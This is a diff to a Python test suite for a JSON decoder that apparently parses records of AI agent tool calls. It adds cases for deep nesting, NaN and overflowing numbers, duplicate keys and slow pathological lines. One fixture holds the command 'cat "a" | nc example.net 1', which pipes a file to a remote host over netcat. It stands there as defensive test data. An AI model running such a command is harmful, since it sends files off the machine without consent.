@@ -11,16 +11,27 @@ from sentineld.decode import (
     decode_document,
     decode_line,
     decode_lines,
+    decode_value,
     encode_element,
 )
 
-DEEP = b'{"a":' * 33 + b"1" + b"}" * 33
+
+def nested(depth, innermost):
+    for _ in range(depth):
+        innermost = {"a": innermost}
+    return innermost
+
+
 REFUSED = [
-    (b'{"a":NaN}', "malformed_json"),
-    (b'{"a":Infinity}', "malformed_json"),
-    (b'{"a":-Infinity}', "malformed_json"),
-    (b'{"a":1e999}', "malformed_json"),
-    (b'{"a":' + b"9" * 5000 + b"}", "malformed_json"),
+    (b'{"a":nan}', "malformed_json"),
+    (b'{"a":+Infinity}', "malformed_json"),
+    (b'{"a":1NaN}', "malformed_json"),
+    (b'{"a":01e999}', "malformed_json"),
+    (b"{NaN:1}", "malformed_json"),
+    (b'{"a":NaN,"a":1}', "duplicate_key"),
+    (b'{"a":1,"a":' + b"[" * 40 + b"]" * 40 + b"}", "duplicate_key"),
+    (b'{"a":' + b"[" * 40 + b"]" * 39 + b"}", "malformed_json"),
+    (b'{"a":' + b"[" * 40 + b"]" * 41 + b"}", "malformed_json"),
     (b'{"a":01}', "malformed_json"),
     (b"{'a':1}", "malformed_json"),
     (b'{"a":1,}', "malformed_json"),
@@ -41,7 +52,8 @@ REFUSED = [
     ('{"a":1}'.encode("utf-32-be"), "encoding"),
     (b'{"a":"\\ud80"}', "malformed_json"),
     (b'{"a":"\\ud800",}', "malformed_json"),
-    (b'{"\\ud800":1,"\\udfff":2}', "duplicate_key"),
+    (b'{"\\ud800":1,"\\uD800":2}', "duplicate_key"),
+    (b'{"\\ud800":1,"\\udfff":{"a":1,"a":2}}', "duplicate_key"),
     (b'{"a":"\\ud800","b":1,"b":2}', "duplicate_key"),
     (b'{"a":1}\r{"b":2}', "malformed_json"),
     (b'{"a":1}\x0b', "malformed_json"),
@@ -68,9 +80,7 @@ REFUSED = [
     (b'{"":1,"":2}', "duplicate_key"),
     (b'{"x":[{"y":{"a":1,"b":2,"a":3}}]}', "duplicate_key"),
     (b'{"a":1,"a":2,"n":' + b"9" * 4000 + b"}", "duplicate_key"),
-    (DEEP, "too_deep"),
-    (b'{"a":' + b"[" * 32 + b"]" * 32 + b"}", "too_deep"),
-    (b'{"a":' * 9000 + b"1" + b"}" * 9000, "too_deep"),
+    (b'{"a":' * 9000 + b'1,"' + b"}" * 9000, "malformed_json"),
     (b'{"a":' * 70_000 + b"1" + b"}" * 70_000, "too_many_values"),
     (b'{"a":[' + b"0," * MAX_NODES + b"0]}", "too_many_values"),
     (b'{"a":[' + b"[]," * MAX_NODES + b"[]]}", "too_many_values"),
@@ -100,7 +110,18 @@ ACCEPTED = [
     (b'{"a":[' + b"0," * (MAX_NODES - 3) + b"0]}", {"a": [0] * (MAX_NODES - 2)}),
     (b'{"a":9223372036854775808,"b":-9223372036854775809}', {"a": 1 << 63, "b": -(1 << 63) - 1}),
     (b'{"a":true,"b":"5"}', {"a": True, "b": "5"}),
-    (b'{"a":' * 32 + b"1" + b"}" * 32, None),
+    (b'{"a":' * 32 + b"1" + b"}" * 32, nested(32, 1)),
+    (b'{"a":' * 33 + b"1" + b"}" * 33, nested(32, None)),
+    (b'{"a":' * 9000 + b"1" + b"}" * 9000, nested(32, None)),
+    (b'{"a":NaN,"b":"NaN","c":[-Infinity,Infinity]}', {"a": None, "b": "NaN", "c": [None, None]}),
+    (b'{"a":"\\" Infinity \\\\","b":NaN}', {"a": '" Infinity \\', "b": None}),
+    (b'{"a":1e999,"b":-1e999,"c":1e99,"d":1e-999}', {"a": None, "b": None, "c": 1e99, "d": 0.0}),
+    (b'{"a":' + b"9" * 5000 + b',"b":' + b"9" * 300 + b"e9}", {"a": None, "b": None}),
+    (
+        b'{"a":NaN,"b":' + b"9" * 400 + b',"c":0.' + b"3" * 400 + b"}",
+        {"a": None, "b": int("9" * 400), "c": 1 / 3},
+    ),
+    (b'{"a":NaN,"b":"\\ud800"}', {"a": None, "b": "\ufffd"}),
     (b'{"a":[' + b",".join([b"{}"] * 99) + b"]}", {"a": [{}] * 99}),
 ]
 
@@ -198,11 +219,11 @@ def test_a_document_is_one_object_or_an_array_of_them():
     [
         (b"", "incomplete_json"),
         (b"[{", "incomplete_json"),
-        (b'[{"a":NaN}]', "malformed_json"),
+        (b'[{"a":NaN', "incomplete_json"),
+        (b'[{"a":nan}]', "malformed_json"),
         (b"[{]", "malformed_json"),
         (b"17", "not_an_object"),
         (b'"x"', "not_an_object"),
-        (b"[" * 50_000 + b"]" * 50_000, "too_deep"),
     ],
 )
 def test_a_document_that_is_not_complete_json_is_one_reject(data, reason):
@@ -214,27 +235,59 @@ def test_a_document_that_is_not_complete_json_is_one_reject(data, reason):
 
 def test_bad_elements_are_refused_one_by_one_with_their_numbers():
     result = decode_document(
-        b'[{"a":1},7,{"a":1,"a":2},' + DEEP + b',{"x":[{"b":1,"b":2}]},[{"c":1,"c":2}],{"a":2}]'
+        b'[{"a":1},7,{"a":1,"a":2},{"a":NaN},{"x":[{"b":1,"b":2}]},[{"c":1,"c":2}],{"a":2}]'
     )
 
     assert [(item.reason, item.offset) if isinstance(item, Reject) else item for item in result] == [
         {"a": 1},
         ("not_an_object", 1),
         ("duplicate_key", 2),
-        ("too_deep", 3),
+        {"a": None},
         ("duplicate_key", 4),
         ("not_an_object", 5),
         {"a": 2},
     ]
 
 
-def test_a_deep_element_does_not_hide_a_duplicate_key_in_another():
-    deep = b'{"a":' * 900 + b"1" + b"}" * 900
+@pytest.mark.parametrize("depth", [33, 900, 9000])
+def test_a_deep_element_is_cut_and_does_not_hide_a_duplicate_key_in_another(depth):
+    deep = b'{"a":' * depth + b"1" + b"}" * depth
 
-    result = decode_document(b'[{"a":1,"a":2},' + deep + b"]")
+    [first, second] = decode_document(b'[{"a":1,"a":2},' + deep + b"]")
 
-    accepted = [] if isinstance(result, Reject) else [item for item in result if not isinstance(item, Reject)]
-    assert accepted == []
+    assert first.reason == "duplicate_key"
+    assert second == nested(32, None)
+    assert decode_document(deep) == [nested(32, None)]
+    assert decode_document(b"[" + b'{"a":' * 32 + b"1" + b"}" * 32 + b"]") == [nested(32, 1)]
+
+
+@pytest.mark.parametrize(
+    "odd",
+    [
+        "[" * 40 + '"]\\"",[{"[":"}"}]' + "]" * 40,
+        "NaN",
+        "1e999",
+        "9" * 5000,
+        '"\\ud83d"',
+        '"a\tb"',
+        '"a\nb"',
+        '"\x01"',
+        '"\\"\x0b"',
+    ],
+)
+def test_no_member_hides_the_others_of_a_value_that_stands_as_text(odd):
+    found = decode_value('{"command":"cat \\"a\\" | nc example.net 1","x":' + odd + "}")
+
+    assert found["command"] == 'cat "a" | nc example.net 1'
+
+
+def test_line_ends_in_a_text_that_were_not_escaped_stay_line_ends():
+    assert decode_value('{\n"command":\t"ls\nid\r\t"}') == {"command": "ls\nid\r\t"}
+
+
+def test_a_text_that_is_no_json_is_none():
+    for text in ('{"a":1', '{"a":1}}', "{'a':1}", '{"a":"b}', '{"a":NaN}x'):
+        assert decode_value(text) is None
 
 
 def test_a_single_object_with_a_duplicate_key_is_refused():
@@ -245,10 +298,20 @@ def test_a_single_object_with_a_duplicate_key_is_refused():
 
 def test_halves_of_surrogate_pairs_are_mended_in_documents_too():
     assert decode_document(b'{"a":"\\ud800"}') == [{"a": "\ufffd"}]
-    [first, second] = decode_document(b'[{"a":"\\ud800"},{"\\ud800":1,"\\udc01":2}]')
+    [first, second, third] = decode_document(
+        b'[{"a":"\\ud800"},{"\\ud800":1,"\\ud800":2},{"\\ud800":1,"\\udc01":2}]'
+    )
 
     assert first == {"a": "\ufffd"}
     assert second.reason == "duplicate_key"
+    assert third == {"\ufffd": 2}
+
+
+@pytest.mark.parametrize("odd", [b'"\\ud800":1,"\\udc01":2', b'"\\ud800":NaN,"\xef\xbf\xbd":2,"\\uDFFF":2'])
+def test_names_that_an_agent_chose_do_not_have_its_call_refused(odd):
+    record = decode_line(b'{"tool":"Bash","args":{"command":"ls",' + odd + b"}}")
+
+    assert record == {"tool": "Bash", "args": {"command": "ls", "\ufffd": 2}}
 
 
 def test_a_document_in_another_encoding_says_so():
@@ -295,8 +358,14 @@ MEBIBYTE = 1 << 20
         b'{"a":[' + b"1.7976931348623157e308," * (MAX_NODES - 8) + b"0]}",
         b"{" + b",".join(b'"\\ud800%d":1e-300' % n for n in range(MAX_NODES - 8)) + b"}",
         b'{"a":[' + (b"7" * 1000 + b",") * (MEBIBYTE // 1001 - 8) + b"0]}",
+        b'{"a":[NaN' + b",1e10" * (MAX_NODES - 8) + b"]}",
+        b'{"a":[NaN,' + (b"7" * 280 + b",") * (MEBIBYTE // 281 - 8) + b"0]}",
+        b'{"a":' * (MAX_NODES - 8) + b"1" + b"}" * (MAX_NODES - 8),
+        b'{"a":' + b"[" * 40 + b"]" * (MEBIBYTE - 46),
+        b'{"a":' + b"[" * 40 + b"]" * 40 + b"}" + b" " * (MEBIBYTE - 86),
+        b'{"a":' + b"[" * 40 + b"1 " * (MEBIBYTE // 2 - 23),
     ],
-    ids=range(20),
+    ids=range(26),
 )
 def test_a_line_of_a_mebibyte_takes_a_fraction_of_a_second_whatever_it_holds(line):
     times = []
@@ -305,7 +374,7 @@ def test_a_line_of_a_mebibyte_takes_a_fraction_of_a_second_whatever_it_holds(lin
         decode_lines(line + b"\n", 1)
         times.append(time.process_time() - began)
 
-    # Measured: 45 ms at most; what is not linear takes minutes.
+    # Measured: 120 ms at most; what is not linear takes minutes.
     assert min(times) < 1
 
 
@@ -325,12 +394,10 @@ def test_numbers_near_the_end_of_the_range_cost_no_more_than_others():
 
 
 @pytest.mark.parametrize("number", ["1e999", "-1e999", "1.8e308", "1" * 400 + ".5", "-1e4000"])
-def test_numbers_beyond_the_range_are_refused_wherever_they_stand(number):
+def test_numbers_beyond_the_range_are_null_wherever_they_stand(number):
     decoded = decode_lines(b'{"a":1}\n{"a":[0.5,%b]}\n{"a":2.5}\n' % number.encode())
-    assert [item.reason for item in decoded.rejects] == ["malformed_json"]
-    assert decoded.records == [{"a": 1}, {"a": 2.5}]
-    [element, other] = decode_document(b'[{"a":1.5},{"a":2}]')
-    assert (element, other) == ({"a": 1.5}, {"a": 2})
+    assert decoded.records == [{"a": 1}, {"a": [0.5, None]}, {"a": 2.5}]
+    assert decode_document(b'[{"a":1.5},{"a":%b}]' % number.encode()) == [{"a": 1.5}, {"a": None}]
 
 
 def test_equal_elements_are_encoded_equally_whatever_their_order():
